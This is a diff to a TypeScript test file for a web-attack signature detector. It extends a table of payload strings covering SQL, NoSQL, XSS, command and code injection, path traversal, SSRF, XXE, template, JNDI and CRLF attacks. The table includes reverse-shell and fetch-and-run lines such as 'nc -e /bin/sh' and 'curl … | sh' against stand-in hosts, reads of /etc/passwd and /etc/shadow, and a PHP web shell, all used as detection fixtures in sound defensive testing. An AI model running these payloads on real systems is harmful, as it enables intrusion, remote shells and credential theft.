@@ -12,19 +12,20 @@ const ATTACKS: Readonly<Partial<Record<AttackFamily, readonly string[]>>> = {
     '7 where 81 = 81', '7 ) ) as lamp where 6 = 6', 'iif ( 31 = 47, 1, 1/0 )', '7);if(8=9) select 8 else drop function lamp--', "waitfor delay '0:0:9'#", 'declare @q varchar ( 90 ) select @q = 0x6c616d70', "create or replace function nap ( int ) returns int as 'libc.so.6' language 'c'", '7 or case when 3=4 then 3 else json(char(76)) end', 'or 5 between 4 and 6',
     ' having 7=8#', ' or a=b#', 'or true--', "x' group by lamp having 7=7--", "x' insert into lamps(name) values('a')", "')) waitfor delay '0:0:9' /*", "x' or ''-'", 'sleep(9)="', 'select session_user;', 'select count(*) from lamps.lamps as a, lamps.shades as b--', '/*!union*//*!select*/', ", find_in_set('7', sizes)",
   ],
-  noSql: ['{"$gt":""}', '{"password":{"$ne":null}}', "x'; return true; var y='", "x' || '1'=='1", 'this.password.match(/.*/)', "', $or: [ {}, { 'a':'a", 'db.users.drop()', '{"$where":"sleep(900)"}'],
+  noSql: ['{"$gt":""}', '{"password":{"$ne":null}}', "x'; return true; var y='", "x' || '1'=='1", 'this.password.match(/.*/)', "', $or: [ {}, { 'a':'a", 'db.users.drop()', '{"$where":"sleep(900)"}', 'lamp; return true'],
   xss: [
     '<script>alert(7)</script>', '<img src=x onerror=alert(7)>', '<svg/onload=confirm(7)>', '" onmouseover="prompt(7)', "';alert(7)//", 'javascript:alert(7)', '<a href="jav&#x09;ascript:alert(7)">x</a>', '<iframe src="//elsewhere.example">', '<body onload=a()>', '<details open ontoggle=a(7)>', '</script><b>', '<div style="width: expression(a(7))">',
     '<math><a xlink:href="javascript:a(7)">', '<input autofocus onfocus=a(7)>', '<object data="data:text/html;base64,x">', 'self["al"+"ert"](7)', '[].filter.constructor("a(7)")()', '<meta http-equiv="refresh" content="0;url=javascript:a(7)">', 'document.cookie', '<base href="//elsewhere.example/">', '<x onclick=a(7)>', '<form><button formaction=javascript:a(7)>',
   ],
   command: ['; cat /etc/passwd', '| id', '&& whoami', '`id`', '$(id)', 'x; ls -la', 'a|/usr/bin/id', '\nwget http://elsewhere.example/x.sh', ';c\'a\'t /etc/hosts', 'x & ping -c 4 192.0.2.7', '() { :;}; /bin/bash -c id', 'cat${IFS}/etc/passwd', 'x && powershell -enc aQBkAA==', '|| curl http://192.0.2.7/x | sh', '; nc -e /bin/sh 192.0.2.7 4444', '& dir c:\\',
     'cd /;cd srv;cat shadow', ';chmod +x lamp.pl', ';"wget" http://elsewhere.example', "w''get http://elsewhere.example", 'w\\get http://elsewhere.example', 'h$@ostname -f', 'hea$*d /etc/hosts', '{c""at,/etc/hosts}', '; cat$z /etc$z/hosts$z', '7;.shell id', '| netsh advfirewall set allprofiles state off', '| reg query "HKCU\\Software"', 'net localgroup administrators lamp /add', 'type d:\\lamps.txt', 'x;whoami\\n', '\\n/usr/bin/env;', "perl -e 'print 7'", "$'\\143\\141\\164'", '; sh$z -c id'],
-  code: ['<?php system($_GET["c"]); ?>', 'phpinfo();system("id")', '<!--#exec cmd="id" -->', 'require("child_process").exec("id")', '__import__("os").system("id")', 'T(java.lang.Runtime).getRuntime().exec("id")', 'eval(base64_decode("aWQ="))', '<% eval request("c") %>', 'class.module.classLoader.resources', 'Kernel.exec("id")'],
-  pathTraversal: ['../../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/shadow', '....//....//etc/hosts', '/var/www/../../etc/passwd', '.git/config', '/.env', 'WEB-INF/web.xml', 'c:\\boot.ini', '..;/manager', '/proc/self/environ', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '..%c0%af..%c0%afetc/passwd', '/static/..'],
-  fileInclusion: ['php://filter/convert.base64-encode/resource=index', 'file:///etc/hosts', 'expect://id', 'http://192.0.2.7/shell.txt', 'data://text/plain;base64,x', 'http://elsewhere.example/x.txt?'],
+  code: ['<?php system($_GET["c"]); ?>', 'phpinfo();system("id")', '<!--#exec cmd="id" -->', 'require("child_process").exec("id")', '__import__("os").system("id")', 'T(java.lang.Runtime).getRuntime().exec("id")', 'eval(base64_decode("aWQ="))', '<% eval request("c") %>', 'class.module.classLoader.resources', 'Kernel.exec("id")', '{php}echo 7;{/php}', '$ {"lamp"}', 'process[lamp.name]', '@{   [  `id`  ]  }', 'ClassPathXmlApplicationContext("http://elsewhere.example")'],
+  pathTraversal: ['../../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/shadow', '....//....//etc/hosts', '/var/www/../../etc/passwd', '.git/config', '/.env', 'WEB-INF/web.xml', 'c:\\boot.ini', '..;/manager', '/proc/self/environ', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '..%c0%af..%c0%afetc/passwd', '/static/..',
+    '%c0%fe%c0%fe%c1%8setc%c1%8shosts', '%c0.%c0.%uefc8boot.ini', '..5c..5c..5clamps', '.\\/.\\/.\\/.\\/lamps', './/..//lamps', '\\.\\.\\/\\.\\.\\/lamps', '/etc/lampd.conf', '/var/lp/log', '/logs/error.log', '\\httpd\\conf\\lamps', '/.shosts', '/.kiro/settings.json', 'actuator/threaddump', '/jolokia/read/lamp', '/lamp.php;.gif', '/lamp.jsp%0A.png', '/lamp.phtml\\u0023.jpg'],
+  fileInclusion: ['php://filter/convert.base64-encode/resource=index', 'file:///etc/hosts', 'expect://id', 'http://192.0.2.7/shell.txt', 'data://text/plain;base64,x', 'http://elsewhere.example/x.txt?', 'convert.iconv.UTF8.UTF16', 'https://[2001:db8::7]/lamp.php', '/uploads/wso2.php'],
   ssrf: ['http://169.254.169.254/latest/meta-data/', 'http://2130706433/', 'http://0x7f000001/', 'http://[::1]/admin', 'gopher://192.0.2.7:6379/_x', 'http://127.1/', 'dict://192.0.2.7:11211/', 'http://metadata.google.internal/computeMetadata/v1/', 'http://10.0.0.7.nip.io/'],
   xxe: ['<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hosts">]><a>&x;</a>', '<!DOCTYPE a SYSTEM "http://elsewhere.example/a.dtd"><a/>', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://elsewhere.example/x"> %x;]>', '<xi:include href="file:///etc/hosts"/>'],
-  template: ['{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', "{{''.__class__.__mro__}}", '{{config.items()}}', '<#assign x="freemarker.template.utility.Execute"?new()>', '*{T(java.lang.Runtime)}', '{{request.application.__globals__}}', '${{7*7}}'],
+  template: ['{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', "{{''.__class__.__mro__}}", '{{config.items()}}', '<#assign x="freemarker.template.utility.Execute"?new()>', '*{T(java.lang.Runtime)}', '{{request.application.__globals__}}', '${{7*7}}', '{{ self }}', '{$smarty.now}'],
   ldap: ['*)(uid=*', '*)(|(uid=*))', 'admin)(&)', 'x)(|(password=*)', '(&(uid=admin)(!(a=b)))', '*)(objectClass=*'],
   jndi: ['${jndi:ldap://elsewhere.example/a}', '${${lower:j}ndi:rmi://elsewhere.example/a}', '${${::-j}${::-n}di:dns://x}', '${env:AWS_SECRET}'],
   crlf: ['x\r\nSet-Cookie: a=b', 'x%0d%0aLocation: https://elsewhere.example', 'x\r\n\r\nHTTP/1.1 200 OK', 'a\nGET /admin HTTP/1.1', '嘊嘍Set-Cookie:a=b', 'x\r\nBcc: all@mail.example'],
@@ -44,10 +45,10 @@ describe('ENG-04 signatures of each family', () => {
     });
   }
 
-  test('say that a tool of those who run systems is named, which alone is little', () => {
-    for (const value of ['ansible-galaxy install lamp', 'kubectl get pods', 'terraform destroy', 'time; docker-compose', 'net view', 'which socat']) {
+  test('say little of what is no attack by itself: tools of those who run systems, settings, copies and dumps', () => {
+    for (const value of ['ansible-galaxy install lamp', 'kubectl get pods', 'terraform destroy', 'time; docker-compose', 'net view', 'which socat', 'memory_limit=1G', '/lamps.sql.gz', '/lamps.bak']) {
       const signatures = findSignatures(value, { location: 'query', name: 'value' });
-      assert.ok(signatures.some(({ family }) => family === 'command') && totalWeight(signatures) < SUSPECT_WEIGHT, value);
+      assert.ok(signatures.length > 0 && totalWeight(signatures) < SUSPECT_WEIGHT, value);
     }
   });
 
